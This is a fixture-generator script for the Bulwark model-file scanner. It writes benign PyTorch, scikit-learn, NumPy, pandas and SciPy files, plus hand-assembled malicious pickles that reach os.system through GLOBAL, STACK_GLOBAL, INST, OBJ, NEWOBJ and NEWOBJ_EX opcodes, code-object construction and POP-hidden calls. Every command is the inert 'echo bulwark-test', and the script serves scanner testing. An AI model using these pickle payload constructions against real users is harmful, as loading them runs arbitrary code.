#!/usr/bin/python3
"""Generates Bulwark's scanner fixtures (fixtures/benign, fixtures/malicious, fixtures/manifest.json,
fixtures/benign-globals.json).

Run with Debian's interpreter, which has torch/numpy/sklearn/joblib/pandas/scipy:

    /usr/bin/python3 scripts/generate-fixtures.py

Benign files are written by the real libraries. Malicious files are assembled from raw pickle opcode bytes; they are
never unpickled, and every command they carry is the inert string 'echo bulwark-test'. The output is deterministic
(fixed seeds, fixed timestamps), so re-running the script reproduces the same bytes.
"""
from __future__ import annotations

import bz2
import collections
import datetime
import decimal
import fractions
import gzip
import hashlib
import io
import json
import lzma
import os
import pathlib
import pickle
import re
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import uuid
import zipfile
import zlib

if os.environ.get('PYTHONHASHSEED') != '0':  # set/dict-of-str ordering (e.g. TorchScript constants) must be stable
    os.environ['PYTHONHASHSEED'] = '0'
    os.execv(sys.executable, [sys.executable, *sys.argv])

HERE = pathlib.Path(__file__).resolve().parent
ROOT = HERE.parent / 'fixtures'
BEN = ROOT / 'benign'
MAL = ROOT / 'malicious'
sys.path.insert(0, str(HERE))
sys.dont_write_bytecode = True

import pickle_globals  # noqa: E402  (static lister, never unpickles)

# ---------------------------------------------------------------------------------------------------------------------
# Determinism: every timestamp that zipfile/gzip/tarfile/torch would take from the clock is pinned.
FIXED_EPOCH = 1700000000.0
os.environ['TZ'] = 'UTC'
time.tzset()
time.time = lambda: FIXED_EPOCH  # type: ignore[assignment]

CMD = 'echo bulwark-test'
CODE = "__import__('os').system('echo bulwark-test')"

# Module aliases applied to expected globals (kept in step with src/scan/pickle/policy-data.ts MODULE_ALIASES).
ALIASES = {
    'posix': 'os', 'nt': 'os', '_operator': 'operator', '_pickle': 'pickle', 'cPickle': 'pickle', '_io': 'io',
    '__builtin__': 'builtins', '__builtins__': 'builtins', 'httplib': 'http.client', 'urllib2': 'urllib.request',
    'copy_reg': 'copyreg', 'commands': 'subprocess', '_socket': 'socket', '_ssl': 'ssl',
}

MANIFEST: list = []


def norm(module: str) -> str:
    if module in ALIASES:
        return ALIASES[module]
    head = module.split('.', 1)[0]
    if head in ALIASES:
        return ALIASES[head] + module[len(head):]
    return module


def add(path: pathlib.Path, label: str, cls: str, note: str, pairs: list | None = None, verdict: str | None = None):
    rel = path.relative_to(ROOT).as_posix()
    expect: dict = {'verdict': verdict or ('clean' if label == 'benign' else 'malicious')}
    if pairs:
        expect['globals'] = [f'{norm(m)}.{n}' for m, n in pairs]
        expect['rawGlobals'] = [[m, n] for m, n in pairs]
    MANIFEST.append({'path': rel, 'label': label, 'class': cls, 'expect': expect, 'note': note})


def write(path: pathlib.Path, data: bytes) -> pathlib.Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


# ---------------------------------------------------------------------------------------------------------------------
# Raw pickle assembler.
class G:
    """A global reference (module, name)."""

    def __init__(self, module: str, name: str):
        self.module, self.name = module, name


class C:
    """A call: func(*args) via REDUCE."""

    def __init__(self, func, *args):
        self.func, self.args = func, args


class Raw:
    def __init__(self, data: bytes):
        self.data = data


class PB:
    """Minimal pickle assembler. proto=None writes no PROTO opcode (protocol 0/1 style)."""

    def __init__(self, proto: int | None = None):
        self.proto = proto or 0
        self.b = bytearray()
        if proto is not None and proto >= 2:
            self.b += b'\x80' + bytes([proto])

    def raw(self, data: bytes) -> 'PB':
        self.b += data
        return self

    def s(self, text: str) -> 'PB':
        enc = text.encode('utf-8')
        if self.proto >= 4 and len(enc) < 256:
            return self.raw(b'\x8c' + bytes([len(enc)]) + enc)
        if self.proto >= 1:
            return self.raw(b'X' + struct.pack('<I', len(enc)) + enc)
        return self.raw(b'V' + text.encode('raw-unicode-escape') + b'\n')

    def glob(self, module: str, name: str) -> 'PB':
        if self.proto >= 4:
            return self.s(module).s(name).raw(b'\x93')
        return self.raw(b'c' + module.encode() + b'\n' + name.encode() + b'\n')

    def val(self, v) -> 'PB':
        if isinstance(v, Raw):
            return self.raw(v.data)
        if isinstance(v, G):
            return self.glob(v.module, v.name)
        if isinstance(v, C):
            self.val(v.func)
            self.val(tuple(v.args))
            return self.raw(b'R')
        if v is None:
            return self.raw(b'N')
        if v is True or v is False:
            if self.proto >= 2:
                return self.raw(b'\x88' if v else b'\x89')
            return self.raw(b'I01\n' if v else b'I00\n')
        if isinstance(v, int):
            if self.proto >= 1 and -(2**31) <= v < 2**31:
                return self.raw(b'J' + struct.pack('<i', v))
            if self.proto >= 2:
                enc = pickle.encode_long(v)
                return self.raw(b'\x8a' + bytes([len(enc)]) + enc)
            return self.raw(b'I' + str(v).encode() + b'\n')
        if isinstance(v, str):
            return self.s(v)
        if isinstance(v, (bytes, bytearray)):
            if self.proto < 3:
                raise ValueError('bytes need protocol >= 3')
            v = bytes(v)
            if len(v) < 256:
                return self.raw(b'C' + bytes([len(v)]) + v)
            return self.raw(b'B' + struct.pack('<I', len(v)) + v)
        if isinstance(v, tuple):
            if self.proto >= 2 and len(v) == 0:
                return self.raw(b')')
            if self.proto >= 2 and len(v) <= 3:
                for x in v:
                    self.val(x)
                return self.raw(bytes([0x84 + len(v)]))
            self.raw(b'(')
            for x in v:
                self.val(x)
            return self.raw(b't')
        if isinstance(v, list):
            self.raw(b'(')
            for x in v:
                self.val(x)
            return self.raw(b'l')
        if isinstance(v, dict):
            self.raw(b'(')
            for k, x in v.items():
                self.val(k)
                self.val(x)
            return self.raw(b'd')
        raise TypeError(type(v))

    def call(self, module: str, name: str, *args) -> 'PB':
        return self.val(C(G(module, name), *args))

    def stop(self) -> bytes:
        self.b += b'.'
        return bytes(self.b)

    def bytes(self) -> bytes:
        return bytes(self.b)


def simple_call(module: str, name: str, *args, proto: int | None = 2) -> bytes:
    return PB(proto).call(module, name, *args).stop()


def framed(body: bytes, proto: int = 4) -> bytes:
    """PROTO + one FRAME around body (body must not contain PROTO)."""
    return b'\x80' + bytes([proto]) + b'\x95' + struct.pack('<Q', len(body)) + body


OS_SYSTEM_P2 = simple_call('os', 'system', CMD)
OS_SYSTEM_P0 = PB(None).call('os', 'system', CMD).stop()


# ---------------------------------------------------------------------------------------------------------------------
# ZIP writer (stored members) so that headers can be tampered with byte by byte.
def zip_bytes(members: list, *, flag: int = 0, bad_crc: bool = False, local_names: dict | None = None,
              deflate: bool = False) -> bytes:
    out = bytearray()
    central = bytearray()
    for name, data in members:
        cname = name.encode()
        lname = (local_names or {}).get(name, name).encode()
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if bad_crc:
            crc ^= 0xDEADBEEF
        if deflate:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            payload = co.compress(data) + co.flush()
            method = 8
        else:
            payload, method = data, 0
        offset = len(out)
        out += struct.pack('<IHHHHHIIIHH', 0x04034B50, 20, flag, method, 0, 0x21, crc, len(payload), len(data),
                           len(lname), 0) + lname + payload
        central += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014B50, 20, 20, flag, method, 0, 0x21, crc, len(payload),
                               len(data), len(cname), 0, 0, 0, 0, 0, offset) + cname
    cd_off = len(out)
    out += central
    out += struct.pack('<IHHHHIIH', 0x06054B50, 0, 0, len(members), len(members), len(central), cd_off, 0)
    return bytes(out)


def repack_zip(data: bytes, replace: dict | None = None) -> list:
    """Members of a zip as (name, bytes) with some replaced."""
    out = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for info in zf.infolist():
            body = zf.read(info)
            if replace and info.filename in replace:
                body = replace[info.filename]
            out.append((info.filename, body))
    return out


def deterministic_zip(members: list, compress: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', compression=compress) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compress
            info.external_attr = 0o644 << 16
            zf.writestr(info, data)
    return buf.getvalue()


ELEMENT_SIZES = {'Float': 4, 'Double': 8, 'Half': 2, 'BFloat16': 2, 'Long': 8, 'Int': 4, 'Short': 2, 'Char': 1,
                 'Byte': 1, 'Bool': 1, 'ComplexFloat': 8, 'ComplexDouble': 16}


def stable_legacy_keys(data: bytes) -> bytes:
    """Legacy torch.save names storages by memory address and writes them sorted by that name. Rename every key to
    a fixed-width number in order of first use and rewrite the key list and raw storages in the new order, exactly
    as torch.save would have written them had the addresses been ordered that way."""
    import pickletools

    stream = io.BytesIO(data)
    ends = []
    storages: dict = {}  # key -> element size, in order of first use

    def on_persid(pid):
        if isinstance(pid, tuple) and pid and pid[0] == 'storage':
            cls, key = pid[1], pid[2]
            storages.setdefault(key, ELEMENT_SIZES[cls.name[:-len('Storage')]])

    for i in range(5):
        pickle_globals.PERSID_HOOK = on_persid if i == 3 else None
        if i == 4:
            old_order = pickle_globals.run_pickle(stream, [])  # the list of keys, as a symbolic list of str
        else:
            pickle_globals.run_pickle(stream, [])
        ends.append(stream.tell())
    pickle_globals.PERSID_HOOK = None
    raw = {}
    pos = ends[4]
    for key in old_order:
        (numel,) = struct.unpack('<q', data[pos:pos + 8])
        size = 8 + numel * storages[key]
        raw[key] = data[pos:pos + size]
        pos += size
    assert pos == len(data)
    head = data[:ends[3]]
    new_keys = []
    width = len(str(len(storages) - 1))
    for i, key in enumerate(storages):
        new = str(i).rjust(width, '0')  # fixed width, so lexical order (torch sorts keys as strings) = numeric order
        new_keys.append(new)
        old_enc = b'X' + struct.pack('<I', len(key)) + key.encode()
        assert old_enc in head
        head = head.replace(old_enc, b'X' + struct.pack('<I', len(new)) + new.encode())
    assert sorted(new_keys) == new_keys
    return head + pickle.dumps(new_keys, protocol=2) + b''.join(raw[k] for k in storages)


def tar_bytes(members: list, gz: bool = False) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = int(FIXED_EPOCH)
            ti.mode = 0o644
            ti.uname = ti.gname = 'bulwark'
            tf.addfile(ti, io.BytesIO(data))
    raw = buf.getvalue()
    return gzip.compress(raw, mtime=0) if gz else raw


def npy_object_bytes(pickle_payload: bytes, shape=(1,)) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': %r, }" % (shape,)
    total = 10 + len(header) + 1
    header += ' ' * ((64 - total % 64) % 64) + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode('latin-1') + pickle_payload


# ---------------------------------------------------------------------------------------------------------------------
# Benign fixtures: written by the real libraries.
def gen_benign() -> None:
    import joblib
    import numpy as np
    import pandas as pd
    import scipy.sparse
    import torch
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.decomposition import PCA
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression, SGDClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    torch.manual_seed(0)
    rng = np.random.RandomState(0)

    # --- PyTorch -------------------------------------------------------------------------------------------------
    model = torch.nn.Sequential(
        torch.nn.Linear(4, 3), torch.nn.BatchNorm1d(3), torch.nn.ReLU(), torch.nn.Dropout(0.1), torch.nn.Linear(3, 2)
    )
    zoo = torch.nn.ModuleDict({
        'conv': torch.nn.Conv2d(1, 2, 3), 'norm': torch.nn.LayerNorm(4), 'emb': torch.nn.Embedding(5, 2),
        'lstm': torch.nn.LSTM(2, 2), 'gelu': torch.nn.GELU(), 'pool': torch.nn.MaxPool2d(2),
        'attn': torch.nn.MultiheadAttention(4, 1), 'seq': torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Softmax(-1)),
    })
    opt = torch.optim.Adam(model.parameters(), lr=0.01)
    loss = model(torch.randn(5, 4)).sum()
    loss.backward()
    opt.step()
    model.eval()

    def tsave(obj, name, cls, note, legacy=False):
        buf = io.BytesIO()
        torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
        data = buf.getvalue()
        if legacy:
            data = stable_legacy_keys(data)
            note += '; storage keys (memory addresses in torch.save) renumbered in order of use for reproducibility'
        add(write(BEN / name, data), 'benign', cls, note)

    tsave(model.state_dict(), 'torch/state_dict.pt', 'torch-zip', 'torch.save of a small state_dict (zip format)')
    tsave(model.state_dict(), 'torch/state_dict_legacy.pt', 'torch-legacy',
          'torch.save of a state_dict with _use_new_zipfile_serialization=False (stacked pickles)', legacy=True)
    tsave(opt.state_dict(), 'torch/optimizer.pt', 'torch-zip', 'torch.save of an Adam optimizer state_dict (zip)')
    tsave(opt.state_dict(), 'torch/optimizer_legacy.pt', 'torch-legacy', 'Adam optimizer state_dict, legacy format',
          legacy=True)
    tsave(model, 'torch/full_model.pt', 'torch-zip', 'torch.save of a full nn.Sequential (torch.nn classes only)')
    tsave(zoo, 'torch/layer_zoo.pt', 'torch-zip',
          'torch.save of a full ModuleDict (Conv2d, LayerNorm, Embedding, LSTM, GELU, MaxPool2d, MultiheadAttention)')
    sgd = torch.optim.SGD(zoo.parameters(), lr=0.1, momentum=0.9)
    sched = torch.optim.lr_scheduler.StepLR(sgd, step_size=2)
    tsave({'sgd': sgd.state_dict(), 'sched': sched.state_dict()}, 'torch/sgd_scheduler.pt', 'torch-zip',
          'SGD optimizer and StepLR scheduler state_dicts')
    tsave(model, 'torch/full_model_legacy.pt', 'torch-legacy', 'full nn.Sequential, legacy format', legacy=True)
    ckpt = {
        'epoch': 3, 'step': 42, 'model': model.state_dict(), 'optimizer': opt.state_dict(),
        'config': {'lr': 0.01, 'layers': [4, 3, 2], 'name': 'tiny'},
        'extras': {'half': torch.ones(2, dtype=torch.float16), 'mask': torch.tensor([True, False]),
                   'ids': torch.arange(3, dtype=torch.int64), 'bf16': torch.zeros(2, dtype=torch.bfloat16),
                   'size': torch.Size([2, 3]), 'dtype': torch.float32, 'device': torch.device('cpu')},
    }
    tsave(ckpt, 'torch/checkpoint.pth', 'torch-zip', 'training checkpoint dict: state_dicts, config, mixed dtypes')
    tsave(ckpt, 'torch/pytorch_model.bin', 'torch-zip', 'same checkpoint under the Hugging Face .bin name')

    scripted = torch.jit.script(model)
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    add(write(BEN / 'torch/torchscript_scripted.pt', buf.getvalue()), 'benign', 'torchscript',
        'torch.jit.script + torch.jit.save (code/, constants.pkl, data.pkl)')
    traced = torch.jit.trace(model, torch.randn(2, 4))
    buf = io.BytesIO()
    torch.jit.save(traced, buf)
    add(write(BEN / 'torch/torchscript_traced.pt', buf.getvalue()), 'benign', 'torchscript',
        'torch.jit.trace + torch.jit.save')

    # tar / tar.gz holding a torch checkpoint
    sd_buf = io.BytesIO()
    torch.save(model.state_dict(), sd_buf)
    add(write(BEN / 'containers/torch_checkpoint.tar', tar_bytes([('model/state_dict.pt', sd_buf.getvalue())])),
        'benign', 'container-tar', 'tar holding a torch zip checkpoint')
    add(write(BEN / 'containers/torch_checkpoint.tar.gz',
              tar_bytes([('model/state_dict.pt', sd_buf.getvalue())], gz=True)),
        'benign', 'container-tar', 'tar.gz holding a torch zip checkpoint')

    # --- scikit-learn via joblib and pickle ------------------------------------------------------------------------
    X = rng.randn(40, 4)
    y = (X[:, 0] + X[:, 1] > 0).astype(int)
    models = {}
    models['pipeline_logreg'] = Pipeline([('scale', StandardScaler()), ('clf', LogisticRegression())]).fit(X, y)
    models['random_forest'] = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
    models['gradient_boosting'] = GradientBoostingClassifier(n_estimators=3, max_depth=2, random_state=0).fit(X, y)
    df = pd.DataFrame({'color': ['red', 'green', 'blue', 'red'] * 5, 'size': rng.rand(20),
                       'count': rng.randint(0, 5, 20)})
    ct = ColumnTransformer([('cat', OneHotEncoder(handle_unknown='ignore'), ['color']),
                            ('num', StandardScaler(), ['size', 'count'])])
    models['column_transformer'] = Pipeline([('prep', ct), ('clf', LogisticRegression())]).fit(
        df, (df['size'] > 0.5).astype(int))
    docs = ['the cat sat', 'the dog ran', 'a cat ran', 'dogs and cats', 'the end', 'a new start'] * 2
    models['tfidf_sgd'] = Pipeline([('tfidf', TfidfVectorizer()),
                                    ('clf', SGDClassifier(random_state=0, max_iter=20, tol=None))]).fit(
        docs, [0, 1, 0, 1, 0, 1] * 2)
    models['kmeans'] = KMeans(n_clusters=2, n_init=2, random_state=0).fit(X)
    models['pca'] = PCA(n_components=2, random_state=0).fit(X)

    from sklearn.ensemble import HistGradientBoostingClassifier, IsolationForest
    from sklearn.neural_network import MLPClassifier
    from sklearn.preprocessing import LabelEncoder
    from sklearn.svm import SVC
    extra = {
        'hist_gradient_boosting': HistGradientBoostingClassifier(max_iter=3, random_state=0).fit(X, y),
        'label_encoder': LabelEncoder().fit(['cat', 'dog', 'bird']),
        'svc': SVC(C=1.0).fit(X, y),
        'mlp': MLPClassifier(hidden_layer_sizes=(3,), max_iter=5, random_state=0).fit(X, y),
        'isolation_forest': IsolationForest(n_estimators=2, random_state=0).fit(X),
    }
    import warnings
    warnings.filterwarnings('ignore')
    add(write(BEN / 'sklearn/estimators_p4.pkl', pickle.dumps(extra, 4)), 'benign', 'sklearn-pickle',
        'HistGradientBoosting, LabelEncoder, SVC, MLPClassifier, IsolationForest in one protocol-4 pickle')

    for name, est in models.items():
        buf = io.BytesIO()
        joblib.dump(est, buf)
        add(write(BEN / f'sklearn/{name}.joblib', buf.getvalue()), 'benign', 'sklearn-joblib',
            f'joblib.dump of a fitted {type(est).__name__} (uncompressed; raw array bytes follow each '
            'NumpyArrayWrapper)')
    for method in ('zlib', 'gzip', 'bz2', 'xz', 'lzma'):
        buf = io.BytesIO()
        joblib.dump(models['pipeline_logreg'], buf, compress=(method, 3))
        add(write(BEN / f'sklearn/pipeline_logreg_{method}.joblib', buf.getvalue()), 'benign', 'sklearn-joblib',
            f"joblib.dump(compress=('{method}', 3)) of a StandardScaler+LogisticRegression pipeline")
    buf = io.BytesIO()
    joblib.dump(models['random_forest'], buf, compress=3)
    add(write(BEN / 'sklearn/random_forest_compress3.joblib', buf.getvalue()), 'benign', 'sklearn-joblib',
        'joblib.dump(compress=3) (zlib) of a RandomForest')
    for proto in (2, 3, 4, 5):
        add(write(BEN / f'sklearn/pipeline_logreg_p{proto}.pkl', pickle.dumps(models['pipeline_logreg'], proto)),
            'benign', 'sklearn-pickle', f'pickle.dumps(protocol={proto}) of a fitted sklearn Pipeline')
    add(write(BEN / 'sklearn/column_transformer_p4.pkl', pickle.dumps(models['column_transformer'], 4)),
        'benign', 'sklearn-pickle', 'ColumnTransformer + OneHotEncoder pipeline, protocol 4')
    add(write(BEN / 'sklearn/gradient_boosting_p5.pkl', pickle.dumps(models['gradient_boosting'], 5)),
        'benign', 'sklearn-pickle', 'GradientBoosting, protocol 5')

    # --- NumPy ------------------------------------------------------------------------------------------------------
    numeric = np.arange(12, dtype=np.float32).reshape(3, 4)
    objects = np.array(['text', {'k': [1, 2]}, [1.5, None], datetime.datetime(2024, 1, 2, 3, 4, 5),
                        decimal.Decimal('1.25'), (1, 'a')], dtype=object)

    def npsave(name, arr, note, allow_pickle=True):
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=allow_pickle)
        add(write(BEN / name, buf.getvalue()), 'benign', 'numpy', note)

    npsave('numpy/float32.npy', numeric, 'np.save of a float32 array')
    npsave('numpy/int64.npy', np.arange(5, dtype=np.int64), 'np.save of an int64 array')
    npsave('numpy/structured.npy', np.array([(1, 2.0)], dtype=[('a', '<i4'), ('b', '<f8')]),
           'np.save of a structured (record) array')
    npsave('numpy/object.npy', objects, 'np.save of an object array of strings/dicts/lists/datetimes/Decimals')
    for fn, tag in ((np.savez, 'savez'), (np.savez_compressed, 'savez_compressed')):
        buf = io.BytesIO()
        fn(buf, a=numeric, b=np.arange(3))
        add(write(BEN / f'numpy/numeric_{tag}.npz', buf.getvalue()), 'benign', 'numpy', f'np.{tag} numeric arrays')
        buf = io.BytesIO()
        fn(buf, objs=objects, nums=numeric)
        add(write(BEN / f'numpy/object_{tag}.npz', buf.getvalue()), 'benign', 'numpy',
            f'np.{tag} with an object array member')
    npz = io.BytesIO()
    np.savez(npz, a=numeric)
    add(write(BEN / 'containers/npz_in_zip.zip', deterministic_zip([('arrays/data.npz', npz.getvalue())])),
        'benign', 'container-zip', 'zip holding an .npz (zip-in-zip)')
    scalars = {'f64': np.float64(1.5), 'i32': np.int32(7), 'b': np.bool_(True), 'arr': numeric[:1]}
    add(write(BEN / 'numpy/scalars_p2.pkl', pickle.dumps(scalars, 2)), 'benign', 'numpy',
        'numpy scalars and an array, protocol 2 (_codecs.encode for bytes)')
    add(write(BEN / 'numpy/scalars_p4.pkl', pickle.dumps(scalars, 4)), 'benign', 'numpy',
        'numpy scalars and an array, protocol 4')
    add(write(BEN / 'numpy/random_state.pkl', pickle.dumps(np.random.RandomState(1), 4)), 'benign', 'numpy',
        'pickled numpy RandomState (MT19937)')
    add(write(BEN / 'numpy/generator.pkl', pickle.dumps(np.random.default_rng(1), 4)), 'benign', 'numpy',
        'pickled numpy Generator (PCG64)')
    add(write(BEN / 'numpy/masked_array.pkl', pickle.dumps(np.ma.masked_array([1, 2, 3], mask=[0, 1, 0]), 4)),
        'benign', 'numpy', 'pickled numpy masked array')

    # --- SciPy ------------------------------------------------------------------------------------------------------
    csr = scipy.sparse.csr_matrix(np.eye(3))
    add(write(BEN / 'scipy/csr_matrix.pkl', pickle.dumps(csr, 4)), 'benign', 'scipy', 'pickled scipy.sparse csr_matrix')
    add(write(BEN / 'scipy/coo_csc.pkl', pickle.dumps([csr.tocoo(), csr.tocsc()], 4)), 'benign', 'scipy',
        'pickled scipy.sparse coo/csc matrices')

    # --- pandas -----------------------------------------------------------------------------------------------------
    frame = pd.DataFrame({
        'i': np.arange(4, dtype=np.int64), 'f': np.linspace(0, 1, 4), 's': ['a', 'b', 'c', 'd'],
        't': pd.date_range('2024-01-01', periods=4, freq='D'), 'c': pd.Categorical(['x', 'y', 'x', 'y']),
        'b': [True, False, True, False],
    })
    series = pd.Series([1.0, 2.5, 3.0], index=['a', 'b', 'c'], name='vals')

    def to_pickle(obj, name, note, **kw):
        path = BEN / name
        path.parent.mkdir(parents=True, exist_ok=True)
        obj.to_pickle(path, **kw)
        add(path, 'benign', 'pandas', note)

    to_pickle(frame, 'pandas/frame.pkl', 'DataFrame.to_pickle (ints, floats, strings, datetimes, categorical, bools)')
    to_pickle(series, 'pandas/series.pkl', 'Series.to_pickle')
    to_pickle(frame, 'pandas/frame.pkl.gz', 'DataFrame.to_pickle gzip', compression={'method': 'gzip', 'mtime': 0})
    to_pickle(frame, 'pandas/frame.pkl.bz2', 'DataFrame.to_pickle bz2', compression='bz2')
    to_pickle(frame, 'pandas/frame.pkl.xz', 'DataFrame.to_pickle xz', compression='xz')
    for proto in range(0, 6):
        add(write(BEN / f'pandas/frame_p{proto}.pkl', pickle.dumps(frame, proto)), 'benign', 'pandas',
            f'pickle.dumps(DataFrame, protocol={proto})')
    pd_objects = {
        'timestamp': pd.Timestamp('2024-01-02 03:04:05'), 'timedelta': pd.Timedelta('1 days 2 hours'),
        'nat': pd.NaT, 'period': pd.Period('2024-01', freq='M'), 'interval': pd.Interval(0, 1),
        'multi': pd.MultiIndex.from_tuples([('a', 1), ('b', 2)], names=['k', 'n']),
        'dtindex': pd.date_range('2024-01-01', periods=3, freq='H'),
        'catindex': pd.CategoricalIndex(['a', 'b', 'a']), 'strings': pd.array(['x', None], dtype='string'),
        'nullable': pd.array([1, None], dtype='Int64'), 'frame_multi': frame.set_index(['s', 'i']).head(2),
        'tz': pd.Timestamp('2024-01-01', tz='UTC'),
    }
    add(write(BEN / 'pandas/objects_p4.pkl', pickle.dumps(pd_objects, 4)), 'benign', 'pandas',
        'pandas scalars and indexes: Timestamp, Timedelta, NaT, Period, Interval, MultiIndex, DatetimeIndex, '
        'CategoricalIndex, StringArray, nullable Int64, tz-aware Timestamp')

    # --- plain Python data ------------------------------------------------------------------------------------------
    import argparse
    import array
    import types

    dd = collections.defaultdict(list)
    dd['a'].append(1)
    data = {
        'str': 'héllo', 'int': 2**70, 'neg': -5, 'float': 1.5, 'complex': complex(1, 2), 'none': None, 'bools': [True, False],
        'list': [1, 'two', 3.0], 'tuple': (1, (2, 3)), 'set': {1, 2, 3}, 'frozenset': frozenset({'a'}),
        'bytes': b'\x00\x01bin', 'bytearray': bytearray(b'xyz'),
        'datetime': datetime.datetime(2024, 5, 6, 7, 8, 9, 10), 'date': datetime.date(2024, 5, 6),
        'time': datetime.time(7, 8, 9), 'timedelta': datetime.timedelta(days=1, seconds=5),
        'aware': datetime.datetime(2024, 1, 1, tzinfo=datetime.timezone.utc),
        'uuid': uuid.UUID('12345678-1234-5678-1234-567812345678'), 'decimal': decimal.Decimal('3.14159'),
        'fraction': fractions.Fraction(3, 7), 'ordered': collections.OrderedDict([('b', 1), ('a', 2)]),
        'defaultdict': dd, 'counter': collections.Counter('abracadabra'), 'deque': collections.deque([1, 2, 3]),
        'regex': re.compile(r'^[a-z]+\d*$', re.IGNORECASE), 'range': range(0, 10, 2), 'slice': slice(1, 5, 2),
        'namespace': argparse.Namespace(lr=0.1, epochs=3), 'simple': types.SimpleNamespace(a=1),
        'path': pathlib.PurePosixPath('/models/model.bin'), 'array': array.array('d', [1.0, 2.0]),
    }
    for proto in range(0, 6):
        add(write(BEN / f'python/data_p{proto}.pkl', pickle.dumps(data, proto)), 'benign', 'python-data',
            f'plain Python data (containers, datetime, uuid, Decimal, Fraction, collections, re, range, slice, '
            f'Namespace, PurePosixPath, array), protocol {proto}')
    add(write(BEN / 'python/data.pkl.gz', gzip.compress(pickle.dumps(data, 4), mtime=0)), 'benign', 'python-data',
        "gzip'ed protocol-4 data pickle")
    add(write(BEN / 'python/data.joblib', pickle.dumps({'weights': [0.1, 0.2], 'classes': ['a', 'b']}, 4)),
        'benign', 'python-data', 'plain pickle under a .joblib name')


# ---------------------------------------------------------------------------------------------------------------------
# Malicious fixtures: raw opcode bytes, never unpickled. Commands are the inert string CMD.
def gen_malicious() -> None:
    M = MAL

    def mal(name: str, data: bytes, cls: str, note: str, pairs: list | None = None) -> None:
        add(write(M / name, data), 'malicious', cls, note, pairs)

    def gadget(name: str, module: str, fname: str, *args, cls: str = 'stdlib-gadget', note: str = '',
               proto: int = 4, extra: list | None = None):
        data = PB(proto).call(module, fname, *args).stop()
        mal(f'gadgets/{name}.pkl', data, cls, note or f'{module}.{fname}(...) called via REDUCE',
            [(module, fname)] + (extra or []))

    OS = G('os', 'system')

    # --- call opcodes ----------------------------------------------------------------------------------------------
    mal('opcodes/global_p0.pkl', OS_SYSTEM_P0, 'opcode-global', 'os.system via GLOBAL + REDUCE, protocol 0 text',
        [('os', 'system')])
    body = PB(4).call('os', 'system', CMD).stop()[2:]
    mal('opcodes/stack_global_p4.pkl', framed(body), 'opcode-stack-global',
        'os.system via STACK_GLOBAL inside a FRAME, protocol 4', [('os', 'system')])
    mal('opcodes/inst.pkl', b'(V' + CMD.encode() + b'\nios\nsystem\n.', 'opcode-inst',
        'INST opcode: os.system(cmd) without GLOBAL/REDUCE', [('os', 'system')])
    mal('opcodes/obj.pkl', b'(cos\nsystem\nV' + CMD.encode() + b'\no.', 'opcode-obj',
        'OBJ opcode: MARK, GLOBAL os.system, argument, OBJ', [('os', 'system')])
    mal('opcodes/newobj_os_system.pkl', PB(2).glob('os', 'system').val((CMD,)).raw(b'\x81').stop(),
        'opcode-newobj', 'NEWOBJ applied to os.system: CPython imports os and then rejects the non-type; the file '
        'exists only to reach os.system, so a scanner must flag the global whatever opcode consumes it',
        [('os', 'system')])
    mal('opcodes/newobj_ex_os_system.pkl', PB(4).glob('os', 'system').val((CMD,)).raw(b'}\x92').stop(),
        'opcode-newobj-ex', 'NEWOBJ_EX applied to os.system (same caveat as newobj_os_system.pkl)', [('os', 'system')])
    code_obj = compile(CODE, '<bulwark>', 'exec')
    code_args = (code_obj.co_argcount, code_obj.co_posonlyargcount, code_obj.co_kwonlyargcount, code_obj.co_nlocals,
                 code_obj.co_stacksize, code_obj.co_flags, code_obj.co_code, code_obj.co_consts, code_obj.co_names,
                 code_obj.co_varnames, code_obj.co_filename, code_obj.co_name, code_obj.co_qualname,
                 code_obj.co_firstlineno, code_obj.co_linetable, code_obj.co_exceptiontable, code_obj.co_freevars,
                 code_obj.co_cellvars)
    newobj = (PB(4).glob('types', 'FunctionType').glob('types', 'CodeType').val(code_args).raw(b'\x81')
              .raw(b'}').raw(b'\x86\x81').raw(b')R').stop())
    mal('opcodes/newobj.pkl', newobj, 'opcode-newobj',
        'NEWOBJ builds a code object (types.CodeType.__new__) and a function (types.FunctionType.__new__); REDUCE '
        'calls it', [('types', 'FunctionType'), ('types', 'CodeType')])
    newobj_ex = (PB(4).glob('types', 'FunctionType').glob('types', 'CodeType').val(code_args).raw(b'}\x92')
                 .raw(b'}').raw(b'\x86}\x92').raw(b')R').stop())
    mal('opcodes/newobj_ex.pkl', newobj_ex, 'opcode-newobj-ex',
        'NEWOBJ_EX builds a code object and a function from it; REDUCE calls it',
        [('types', 'FunctionType'), ('types', 'CodeType')])
    mal('opcodes/obj_pop.pkl', b'\x80\x02(cos\nsystem\nV' + CMD.encode() + b'\no0}.', 'call-hiding',
        'OBJ result immediately POPped; the pickle returns an empty dict (fickling GHSA-mxhj-88fx-4pcv shape)',
        [('os', 'system')])
    mal('opcodes/reduce_pop.pkl', PB(2).call('os', 'system', CMD).raw(b'0N').stop(), 'call-hiding',
        'REDUCE result POPped, None returned', [('os', 'system')])

    # --- aliases and python 2 names --------------------------------------------------------------------------------
